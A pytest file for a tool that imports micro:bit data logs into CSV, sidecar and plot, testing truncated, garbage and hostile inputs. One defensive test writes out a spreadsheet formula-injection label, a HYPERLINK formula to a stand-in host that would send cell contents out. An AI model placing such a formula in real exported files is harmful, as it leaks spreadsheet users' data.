"""V2 data log import: MY_DATA.HTM (layout from CODAL MicroBitLog) → run CSV + sidecar + plot."""
from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from kit.errors import RecordingError
from kit.record import import_my_data, plot_run, read_my_data, read_run

DATA = Path(__file__).parent / "data"


def _builder():
    import importlib.util

    spec = importlib.util.spec_from_file_location("make_my_data", DATA / "make_my_data.py")
    module = importlib.util.module_from_spec(spec)  # type: ignore[arg-type]
    spec.loader.exec_module(module)  # type: ignore[union-attr]
    return module


def test_fixture_is_what_the_builder_makes() -> None:
    make = _builder()
    blob = (DATA / "MY_DATA.HTM").read_bytes()
    assert blob == make.my_data(*make.sample_rows(),
                                old_labels="Time (seconds),temperature,light\n")
    # CODAL v0.2.43's layout: the whole 128 KB store, NUL-ended metadata, data at 8192
    assert len(blob) == 131072 and blob[2048:2093] == (
        b"UBIT_LOG_FS_V_002\n0x0001FFFC\x000x00002000\x000255\x00")
    assert blob[8192:8240].startswith(b"Time (seconds),temperature,light\n")


def test_import_fixture_to_csv_sidecar_and_plot(tmp_path: Path) -> None:
    paths = import_my_data(DATA / "MY_DATA.HTM", tmp_path)
    run = read_run(paths.csv)
    assert run.fields == ("temperature", "light", "sound")
    series = run.boards["v2-log"]
    assert len(series.seconds) == 36 and series.seconds[:2] == [0.02, 10.02]
    assert series.values["light"][:3] == [120, 117, 114]
    assert series.values["sound"][0] != series.values["sound"][0]  # column added later: empty
    assert series.values["sound"][-1] == 75
    meta = json.loads(paths.sidecar.read_text())
    assert meta["source"]["log_format"] == "UBIT_LOG_FS_V_002" and meta["counts"]["accepted"] == 36
    assert plot_run(paths.csv).stat().st_size > 1000


def test_full_log_ms_timestamps_units_and_text_cells(tmp_path: Path) -> None:
    make = _builder()
    rows = "Time (milliseconds),temp (C),knap\n500,21.5,A\n1500,21.6,3\n"
    source = tmp_path / "MY_DATA.HTM"
    source.write_bytes(make.my_data(rows, "Time (milliseconds),temp (C),knap", full=True))
    paths = import_my_data(source, tmp_path / "ud", excel_da=True)
    assert read_my_data(source).full
    run = read_run(paths.csv)
    assert run.boards["v2-log"].seconds == [0.5, 1.5]
    meta = json.loads(paths.sidecar.read_text())
    assert meta["fields"][0] == {"name": "temp (C)", "unit": "C", "label": "temp"}
    assert meta["counts"]["non_numeric_cells"] == 1 and meta["source"]["log_full"]


def test_downloaded_csv_is_accepted(tmp_path: Path) -> None:
    source = tmp_path / "microbit.csv"
    source.write_text("Time (seconds),x\n0.00,1\n1.00,2\n")
    assert read_run(import_my_data(source, tmp_path).csv).boards["v2-log"].values["x"] == [1, 2]


@pytest.mark.parametrize("cut", [2040, 2060, 2100, 4000, 8000, 8300, 8400, 8700])
def test_truncated_files_give_a_clear_error_or_the_rows_that_are_there(tmp_path: Path,
                                                                        cut: int) -> None:
    source = tmp_path / "MY_DATA.HTM"
    source.write_bytes((DATA / "MY_DATA.HTM").read_bytes()[:cut])
    try:
        paths = import_my_data(source, tmp_path / "ud")
    except RecordingError as err:
        assert "MY_DATA.HTM" in str(err)
        assert cut < 8192 + 60  # no rows or not even the data: nothing to keep
    else:
        assert cut > 8192 and 0 < len(read_run(paths.csv).boards["v2-log"].seconds) < 36
        meta = json.loads(paths.sidecar.read_text())
        assert meta["source"]["file_cut_off"] and meta["source"]["row_cut_off"]
        assert "cut off" in paths.raw.read_text()  # the half row is kept in the raw log


def test_a_row_cut_off_on_the_board_goes_to_the_raw_log(tmp_path: Path) -> None:
    """Power lost mid-write: the last row has no end, the flash after it is unused (0xFF)."""
    make = _builder()
    rows = "Time (seconds),x\n0.00,1\n1.00,2\n2.00,3"
    source = tmp_path / "MY_DATA.HTM"
    source.write_bytes(make.my_data(rows, "Time (seconds),x"))
    paths = import_my_data(source, tmp_path / "ud")
    assert read_run(paths.csv).boards["v2-log"].values["x"] == [1, 2]
    meta = json.loads(paths.sidecar.read_text())
    assert meta["source"]["row_cut_off"] and not meta["source"]["file_cut_off"]
    assert "2.00,3" in paths.raw.read_text()


@pytest.mark.parametrize("content", [b"", b"\x00" * 100, b"<html>hello</html>", b"\xff" * 5000,
                                     b"<!--FS_STARTUBIT_LOG_FS_V_002\n0xZZ"])
def test_garbage_files_give_a_clear_error(tmp_path: Path, content: bytes) -> None:
    source = tmp_path / "MY_DATA.HTM"
    source.write_bytes(content)
    with pytest.raises(RecordingError, match="MY_DATA.HTM"):
        import_my_data(source, tmp_path / "ud")


def test_empty_log_and_missing_file(tmp_path: Path) -> None:
    source = tmp_path / "MY_DATA.HTM"
    source.write_bytes(_builder().my_data("", ""))
    with pytest.raises(RecordingError, match="empty"):
        import_my_data(source, tmp_path)
    with pytest.raises(RecordingError, match="cannot read"):
        import_my_data(tmp_path / "nope.htm", tmp_path)


def test_import_command(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from kit import cli

    result = CliRunner().invoke(cli.cli, ["import", str(DATA / "MY_DATA.HTM"), "-o",
                                          str(tmp_path), "--board", "gruppe-2"])
    assert result.exit_code == 0, result.output
    csv_path = Path(result.stdout.strip())
    assert "gruppe-2" in read_run(csv_path).boards and csv_path.with_suffix(".png").is_file()
    junk = tmp_path / "MY_DATA.HTM"
    junk.write_bytes(b"\x00\x01garbage")
    result = CliRunner().invoke(cli.cli, ["import", str(junk)])
    assert result.exit_code == 1 and "not a micro:bit data log" in result.output


# ----- hostile files ------------------------------------------------------------------------
@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_devices_are_refused_at_once(tmp_path: Path, device: str) -> None:
    """Their size reads as 0, so the size check passed and read_bytes() ran out of memory."""
    if not os.path.exists(device):
        pytest.skip("no " + device)
    from click.testing import CliRunner

    from kit import cli

    result = CliRunner().invoke(cli.cli, ["import", device, "-o", str(tmp_path)])
    assert result.exit_code == 1 and "not a regular file" in result.output
    assert "Traceback" not in result.output and not list(tmp_path.glob("*.csv"))


def test_a_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs on this system")
    fifo = tmp_path / "MY_DATA.HTM"
    os.mkfifo(fifo)
    with pytest.raises(RecordingError, match="not a regular file"):
        import_my_data(fifo, tmp_path / "ud")  # open() of a FIFO blocks until a writer comes


def test_nan_and_inf_cells_become_empty_and_the_plot_step_works(tmp_path: Path) -> None:
    """import wrote nan/inf into the CSV, and its own plot step then crashed on them."""
    source = tmp_path / "log.csv"
    source.write_text("Time (seconds),x\n0,1\n1,nan\n2,inf\n3,-inf\n4,1e999\n5,2\n")
    paths = import_my_data(source, tmp_path / "ud")
    cells = [line.split(",")[-1] for line in paths.csv.read_text().splitlines()[1:]]
    assert cells == ["1", "", "", "", "", "2"]
    assert json.loads(paths.sidecar.read_text())["counts"]["non_numeric_cells"] == 4
    assert plot_run(paths.csv).stat().st_size > 1000


def test_formula_labels_are_text_in_the_csv_and_kept_in_the_sidecar(tmp_path: Path) -> None:
    """MY_DATA.HTM labels reached the CSV header unchanged: a spreadsheet ran them."""
    label = '=HYPERLINK("http://x.example/?"&A1,"klik")'
    make = _builder()
    rows = "Time (seconds),{0}\n0,1\n1,2\n".format('"' + label.replace('"', '""') + '"')
    source = tmp_path / "MY_DATA.HTM"
    source.write_bytes(make.my_data(rows, rows.split("\n", 1)[0]))
    paths = import_my_data(source, tmp_path / "ud")
    import csv

    header = next(csv.reader(paths.csv.open(encoding="utf-8")))
    assert header[3] == "'" + label
    assert json.loads(paths.sidecar.read_text())["fields"][0]["name"] == label
    assert read_run(paths.csv).fields == (label,)


def test_repeated_labels_keep_both_columns(tmp_path: Path) -> None:
    source = tmp_path / "log.csv"
    source.write_text("Time (seconds),x,x\n0,1,2\n1,3,4\n")
    run = read_run(import_my_data(source, tmp_path / "ud").csv)
    assert run.fields == ("x", "x (2)") and run.boards["v2-log"].values["x (2)"] == [2, 4]


@pytest.mark.parametrize("data_start", [0x812, 0x820, 0x830, 0x838])
def test_a_data_start_inside_the_metadata_is_damage_not_columns(tmp_path: Path,
                                                                data_start: int) -> None:
    """An address into the metadata or labels gave garbage column names such as `ds),t`."""
    blob = bytearray((DATA / "MY_DATA.HTM").read_bytes())
    at = blob.find(b"UBIT_LOG_FS_V_002\n") + 29
    blob[at:at + 10] = b"0x%08X" % data_start
    source = tmp_path / "MY_DATA.HTM"
    source.write_bytes(bytes(blob))
    with pytest.raises(RecordingError, match="cut off or damaged"):
        import_my_data(source, tmp_path / "ud")


def test_import_command_says_a_full_or_cut_off_log(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from kit import cli

    make = _builder()
    rows = "Time (seconds),x\n0.00,1\n1.00,2\n2.0"
    source = tmp_path / "MY_DATA.HTM"
    source.write_bytes(make.my_data(rows, "Time (seconds),x", full=True))
    result = CliRunner().invoke(cli.cli, ["import", str(source), "-o", str(tmp_path / "ud"),
                                          "--no-plot"])
    assert result.exit_code == 0, result.output
    assert "the log is full" in result.output and "cut off while being written" in result.output
